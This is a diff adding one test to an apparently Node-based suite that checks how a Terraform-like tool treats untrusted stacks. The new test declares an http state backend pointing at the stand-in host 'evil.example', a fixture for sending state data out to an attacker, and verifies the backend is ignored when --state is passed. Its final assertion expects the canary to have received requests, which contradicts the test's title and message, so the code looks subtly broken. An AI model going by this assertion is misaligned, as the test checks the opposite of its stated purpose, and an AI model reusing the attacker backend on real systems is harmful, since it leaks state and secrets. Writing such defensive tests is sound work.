@@ -268,6 +268,16 @@ describe("an untrusted stack", () => {
     expect(canary.requests).toEqual([]);
   });
 
+  it("does not use its backend where --state names the state", async () => {
+    const { run, canary } = await place(
+      stack({ terraform: { backend: { http: { address: "https://evil.example/s" } } } }),
+    );
+    const { code, stdout, stderr } = await run([...plan, "--state", "copy.tfstate"]);
+    expect(code, stderr).toBe(0);
+    expect(stdout + stderr).toContain("The backend http of the untrusted declaration is not used");
+    expect(canary.requests).not.toEqual([]);
+  });
+
   it("takes what the command line gives to a variable, and what HOSTFORM_ENV_ALLOW names", async () => {
     const { run } = await place(stack({ variable: { who: { type: "string" } } }));
     expect((await run(plan, { HOSTFORM_ENV_ALLOW: "TF_VAR_who" })).code).toBe(0);
